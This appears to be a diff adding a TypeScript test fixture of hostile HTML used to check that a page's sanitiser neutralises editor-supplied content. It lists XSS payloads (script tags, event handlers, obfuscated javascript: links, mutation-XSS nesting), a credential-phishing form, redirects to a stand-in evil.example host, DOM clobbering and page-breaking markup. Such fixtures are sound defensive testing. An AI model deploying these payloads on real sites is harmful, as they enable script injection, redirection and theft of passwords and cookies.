@@ -1,0 +1,25 @@
+/** Bodies that a careless or hostile editor might leave. None of it may run, lead away or break the page (safety B8). */
+import type { HostileKind } from './promotion-seed';
+
+const SCRIPTS = [
+  '<script>window.__pwned = 1</script>', '<img src="x" onerror="window.__pwned = 2">', '<a href="javascript:window.__pwned=3">点我领取</a>',
+  '<a href=" jAvAsCrIpT&#58;window.__pwned=4">再点我</a>', '<svg onload="window.__pwned=5"><script>window.__pwned=6</script></svg>',
+  '<iframe src="https://evil.example/"></iframe>', '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=7"></style></mglyph></table></mtext></math>',
+  '<a href="data:text/html,<script>1</script>">数据</a>', '<details open ontoggle="window.__pwned=8">展开</details>', '<object data="https://evil.example/x.swf"></object>',
+].join('');
+
+const OVERLAY = [
+  '<form action="https://evil.example/"><input name="cookie"><input type="password" name="password" placeholder="请输入密码"><button>登录</button></form>',
+  '<div id="app" name="location" style="position:fixed;inset:0;z-index:99999;background:#fff">遮罩</div>', '<a id="platform" name="session" href="https://evil.example/">会话</a>',
+  '<base href="https://evil.example/" target="_top">', '<style>body{display:none!important}</style>', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<video autoplay src="https://evil.example/a.mp4" onloadstart="window.__pwned=9"></video>',
+].join('');
+
+const HUGE_PARAGRAPHS = 1_500;
+const huge = (): string => Array.from({ length: HUGE_PARAGRAPHS }, (_, at) => `<p>第 ${at + 1} 条:本条款用于说明超长细则的展示效果,请以简明细则为准,如有疑问请联系在线客服。</p>`).join('');
+
+const DEEP = 400;
+const broken = (): string => `${'<div><ul><li><b>'.repeat(DEEP)}层层嵌套<table><tr><td>没有闭合的表格<p>没有闭合的段落<a href="//evil.example">协议相对链接`;
+
+/** HTML per kind. */
+export const HOSTILE: Readonly<Record<HostileKind, string>> = { scripts: SCRIPTS, overlay: OVERLAY, huge: huge(), broken: broken() };
